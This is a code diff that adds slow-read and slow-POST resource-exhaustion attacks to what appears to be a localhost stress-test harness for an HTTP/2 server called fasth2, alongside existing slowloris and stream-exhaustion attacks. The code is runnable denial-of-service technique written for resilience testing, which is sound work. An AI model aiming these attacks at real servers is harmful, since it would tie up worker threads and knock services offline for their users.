@@ -36,6 +36,7 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 INITIAL_WINDOW_SIZE = 0x4
 MAX_WINDOW = 2**31 - 1
 BIG = "/mib-fresh"  # a new 1 MiB bytes object per request
+STREAMED = "/stream-8mib"  # a generator: the app thread waits while the client reads
 STREAMS = 100  # fasth2's default max_concurrent_streams
 
 
@@ -217,6 +218,49 @@ def stream_exhaustion(port, stop):
     on_connections(8, port, stop, attack, settings={INITIAL_WINDOW_SIZE: 0})
 
 
+def slow_read_streams(port, stop):
+    """Threads held by readers that never read: 8 connections x 100 streams of a
+    streamed 8 MiB response, every window wide, a 4 KiB receive buffer; each second
+    the attacker comes back with fresh connections."""
+    def attack(a, stop):
+        a.send(WindowUpdateFrame(0, window_increment=MAX_WINDOW - 65535).serialize()
+               + b"".join(a.headers(1 + 2 * k, STREAMED) for k in range(STREAMS)))
+        stop.wait(1)
+    while not stop.is_set():
+        on_connections(8, port, stop, attack, settings={INITIAL_WINDOW_SIZE: MAX_WINDOW},
+                       rcvbuf=4096, read=False)
+
+
+def slow_read_http1(port, stop):
+    """The same over HTTP/1.1: 32 connections ask for the streamed 8 MiB and never read;
+    fresh ones every second."""
+    while not stop.is_set():
+        socks = []
+        for _ in range(32):
+            sock = socket.socket()
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+            sock.connect(("127.0.0.1", port))
+            sock.sendall(b"GET %s HTTP/1.1\r\nHost: bench\r\n\r\n" % STREAMED.encode())
+            socks.append(sock)
+        stop.wait(1)
+        for sock in socks:
+            sock.close()
+
+
+def slow_post(port, stop):
+    """Bodies announced and never sent: 8 connections x 100 POST streams declaring
+    1 MiB and sending 1 KiB, the app threads waiting to read the rest; fresh
+    connections every second."""
+    def attack(a, stop):
+        length = [("content-length", str(1024 * 1024))]
+        a.send(b"".join(a.headers(1 + 2 * k, "/upload", end_stream=False, extra=length)
+                        + DataFrame(1 + 2 * k, data=b"p" * 1024).serialize()
+                        for k in range(STREAMS)))
+        stop.wait(1)
+    while not stop.is_set():
+        on_connections(8, port, stop, attack)
+
+
 def slowloris(port, stop):
     """500 connections that each trickle the preface, a byte every half second."""
     socks = []
@@ -259,6 +303,9 @@ ATTACKS = {
     "data-dribble": data_dribble,
     "internal-buffering": internal_buffering,
     "stream-exhaustion": stream_exhaustion,
+    "slow-read-streams": slow_read_streams,
+    "slow-read-http1": slow_read_http1,
+    "slow-post": slow_post,
     "slowloris": slowloris,
     "garbage": garbage,
 }
